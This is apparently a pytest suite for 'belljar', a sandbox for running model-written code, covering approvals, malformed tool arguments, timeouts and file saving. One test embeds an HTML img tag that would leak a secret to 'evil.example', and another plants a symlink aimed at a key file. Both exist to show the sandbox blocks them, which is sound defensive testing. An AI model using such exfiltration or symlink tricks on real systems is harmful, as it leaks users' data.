"""What goes wrong by the person, the model or the guest, and what is said or done about it."""

from __future__ import annotations

import json
import os
import pathlib
import pickle
import subprocess
import typing

import pytest

import belljar
from belljar import CodeExecutionConfig, Decision, SandboxPolicy, Session, Skill


def picture(text: str) -> str:
    """Code that shows what claims to be a PNG."""
    bundle = f"{{'image/png': {text!r}}}"
    return f"class P:\n    def _repr_mimebundle_(self, include=None, exclude=None): return {bundle}\nP()"


@pytest.mark.parametrize("text", ["<not base64>", "AAA", "aGVsbG8=", "\u00e9\u00e9\u00e9\u00e9"])
def test_an_image_that_is_none_is_left_out(text):
    with Session() as s:
        r = s.python(picture(text))
        assert r.ok and r.images == [], r
        answer = belljar.tools(s).call("python", {"code": picture(text)})
        assert answer.images == []


def test_what_is_saved_follows_no_link(tmp_path):
    (tmp_path / "wd").mkdir()
    (tmp_path / "key").write_text("mine")
    (tmp_path / "wd" / "plot.png").symlink_to("../key")
    image = belljar.Image(b"a guest's")
    image.save(tmp_path / "wd" / "plot.png")
    belljar.File("x", 1, "text/plain", b"too").save(str(tmp_path / "wd" / "x"))
    assert (tmp_path / "key").read_text() == "mine"
    assert (tmp_path / "wd" / "plot.png").read_bytes() == b"a guest's"
    assert sorted(os.listdir(tmp_path / "wd")) == ["plot.png", "x"]
    assert "guest" not in repr(image)


def test_html_of_a_guest_fetches_nothing():
    code = "class P:\n    def _repr_html_(self): return '<img src=\"https://evil.example/?secret\">'\nP()"
    with Session() as s:
        page = s.python(code)._repr_html_()
    assert "default-src &#x27;none&#x27;" in page and "evil.example" in page, page


@pytest.mark.parametrize("said", [Decision("no"), Decision(1), Decision(object())])  # type: ignore[arg-type]
def test_a_decision_that_is_not_true_is_a_no(said):
    with Session(agent_permission="ask", agent_approval_callback=lambda _: said) as s:
        with pytest.raises(belljar.Denied):
            s.python("1")


def test_who_gives_a_callback_is_asked():
    asked = []

    def refuse(approval):
        asked.append(approval["tool"]["kind"])
        return False

    with Session(agent_approval_callback=refuse) as s, pytest.raises(belljar.Denied):
        s.shell("true")
    with Session(code_execution_config=CodeExecutionConfig(approval_callback=refuse)) as s:
        with pytest.raises(belljar.Denied):
            s.python("1")
        assert s.shell("true").ok  # which nobody wanted to be asked about
    with Session(agent_permission="auto", agent_approval_callback=refuse) as s:
        assert s.python("1").ok
    assert asked == ["shell", "python"]


DEEP = '{"code": ' + "[" * 100_000 + "]" * 100_000 + "}"


@pytest.mark.parametrize(
    "arguments",
    [{"code": "1", "self": 1}, {"code": "\ud800"}, {"code": float("nan")}, '{"code": NaN}', DEEP, None, 5, "[1]", "{",
     {"code": {"a": [[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]}}, {1: 2}],
    ids=lambda value: str(value)[:20].encode("ascii", "replace").decode(),
)  # fmt: skip
def test_whatever_a_model_writes_is_an_answer(arguments):
    with Session() as s:
        answer = belljar.tools(s).call("python", arguments)
        assert answer.is_error and answer.text, answer


def test_a_plan_without_a_sandbox_is_none():
    with pytest.raises(belljar.PolicyError, match="nothing would be enforced"):
        belljar.plan(mode="off")


@pytest.mark.parametrize(
    "make",
    [lambda: Session(workdir=""), lambda: Session(extra_env=["X=y"]), lambda: Session(preload="json"),
     lambda: Session(max_memory_mb=1.5), lambda: Session("restricted"), lambda: belljar.run(["true"], "restricted"),
     lambda: belljar.run(["true"], timeout="5"), lambda: belljar.run(["true"], stderr=subprocess.STDOUT),
     lambda: Session(skills=[Skill("a", "", "/nope")]), lambda: Session(skills=[Skill("a", "", "/usr")] * 2)],
)  # fmt: skip
def test_arguments_that_make_no_sense_are_refused(make):
    with pytest.raises((TypeError, ValueError, OSError)) as caught:
        make()
    assert "object has no attribute" not in str(caught.value) and "not iterable" not in str(caught.value), caught


def test_times():
    with Session(timeout=0.5) as s:
        assert s.python("import time; time.sleep(20)").status == "timeout"
        assert s.python("1", timeout=float("inf")).ok
        for wrong in (0, -1, float("nan")):
            with pytest.raises(ValueError):
                s.python("1", timeout=wrong)
        with pytest.raises(TypeError):
            s.python("1", outputs="out.txt")


def test_errors_say_why_and_can_be_sent():
    with pytest.raises(belljar.Error, match="No such file or directory") as caught:
        Session(workdir="/nope")
    assert "workdir=names" not in str(caught.value)
    with pytest.raises(belljar.CommandFailed, match="nope: it is not there") as failed:
        belljar.run(["nope"], check=True)
    with Session() as s, pytest.raises(belljar.ToolError) as refused:
        s.read_file("missing")
    for error in (caught.value, failed.value, refused.value):
        again = pickle.loads(pickle.dumps(error))
        assert type(again) is type(error) and str(again) == str(error)
    assert pickle.loads(pickle.dumps(refused.value)).kind == refused.value.kind


def test_streams_as_subprocess_has_them():
    assert belljar.run(["echo", "x"], stdout=subprocess.DEVNULL).stdout == ""
    assert belljar.run(["echo", "x"], stdout=subprocess.PIPE, stdin=subprocess.DEVNULL).stdout == "x\n"
    assert belljar.run(["cat"], input=bytearray(b"x")).stdout == "x"


def test_why_of_a_sessions_own_files(tmp_path):
    with Session() as s:
        for name in ("./out.txt", pathlib.Path("out.txt")):
            assert "own workdir" in s.why(name)
    with Session(workdir=tmp_path) as s:
        assert str(tmp_path / "out.txt") in s.why("./out.txt")


def test_hints_can_be_read_and_tools_found():
    typing.get_type_hints(SandboxPolicy)
    with Session() as s:
        tools = belljar.tools(s)
        assert "python" in tools and tools["python"] in tools and "nope" not in tools
    with pytest.raises(TypeError, match="AsyncSession"):
        belljar.tools(belljar.AsyncSession())  # type: ignore[arg-type]


def test_a_folder_of_a_similar_name_stays(tmp_path):
    ended = subprocess.Popen(["true"])
    ended.wait()
    mine = pathlib.Path(f"/tmp/belljar-{ended.pid}-my-notes")
    mine.mkdir()
    try:
        Session().close()
        assert mine.exists()
    finally:
        mine.rmdir()


def test_json_is_what_the_adapters_have():
    with Session() as s:
        assert json.loads(json.dumps(belljar.tools(s).openai()))
